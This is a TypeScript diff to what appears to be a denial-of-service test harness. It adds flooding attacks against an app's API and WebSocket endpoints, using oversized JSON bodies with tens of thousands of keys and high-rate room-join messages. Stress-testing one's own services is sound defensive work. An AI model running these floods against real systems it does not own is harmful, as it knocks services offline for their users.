@@ -34,7 +34,7 @@ async function send(parts: Iterable<string | Buffer>, everyMs = 0): Promise<void
 const untilOver = () => sleep(Math.max(0, deadline - Date.now()))
 
 /** Opens a WebSocket, sends `first` after the handshake and `then` once connected; resolves when it is closed or the time is up. */
-async function sendMessages(first: readonly string[], then: readonly string[] = []): Promise<void> {
+async function sendMessages(first: readonly string[], then: readonly string[] = [], everyMs = 0): Promise<void> {
   const socket = new WebSocket(`${url.replace('http', 'ws')}${REALTIME_PATH}/?EIO=4&transport=websocket`, {
     perMessageDeflate: false,
     localAddress,
@@ -42,8 +42,11 @@ async function sendMessages(first: readonly string[], then: readonly string[] = 
   socket.on('message', (raw: Buffer) => {
     const text = raw.toString()
     if (text.startsWith('0')) for (const each of first) socket.send(each)
-    if (text.startsWith('40')) for (const each of then) socket.send(each)
+    if (!text.startsWith('40')) return
+    for (const each of then) socket.send(each)
+    if (everyMs > 0) timer = setInterval(() => then.forEach((each) => socket.send(each)), everyMs)
   })
+  let timer: NodeJS.Timeout | undefined
   await Promise.race([
     new Promise<void>((resolve) => {
       socket.on('error', () => resolve())
@@ -51,6 +54,7 @@ async function sendMessages(first: readonly string[], then: readonly string[] = 
     }),
     untilOver(),
   ])
+  clearInterval(timer)
   socket.terminate()
 }
 
@@ -73,6 +77,14 @@ function* blocks(megabytes: number) {
 const letIn = `40${JSON.stringify({ apiKey: WEB_KEY, token })}`
 const times = <T>(count: number, make: (index: number) => T) => Array.from({ length: count }, (_, index) => make(index))
 const pipeline = (path: string, headers: Record<string, string> = {}) => [request('GET', path, headers).repeat(20_000)]
+const keys = (count: number) => Object.fromEntries(times(count, (index) => [String(index), 0]))
+const deepKeys = { charges: times(20, () => keys(100)), officers: times(20, () => keys(100)), more: keys(2000) }
+const post = (path: string, body: unknown) => {
+  const text = JSON.stringify(body)
+  return (
+    request('POST', path, { ...signedIn, 'content-type': 'application/json', 'content-length': text.length, connection: 'close' }) + text
+  )
+}
 const image = { 'content-type': 'image/png', 'content-length': 20 * 1024 * 1024 }
 const login = { 'x-api-key': WEB_KEY, 'content-type': 'application/json', 'content-length': 10_000 }
 
@@ -109,6 +121,14 @@ const ATTACKS: Record<string, () => Promise<void>> = {
         times(20_000, (index) => `42${index}["join",{"room":"servers","params":{}}]`),
       ),
     ),
+  'field-values': () =>
+    repeat(8, 100_000, () => send([post('/api/characters', { name: 'x', bornOn: '1990-01-01', fields: keys(65_000) })])),
+  'deep-keys': () => repeat(8, 100_000, () => send([post('/api/reports/drafts', { kind: 'arrest', prefill: deepKeys })])),
+  'join-params': () =>
+    repeat(2, 100, async () => {
+      const params = JSON.stringify(keys(7408))
+      await sendMessages([letIn], [`42["join",{"room":"servers","params":${params}}]`], 1000 / 45)
+    }),
   maps: () =>
     repeat(1, 200, () =>
       sendMessages(
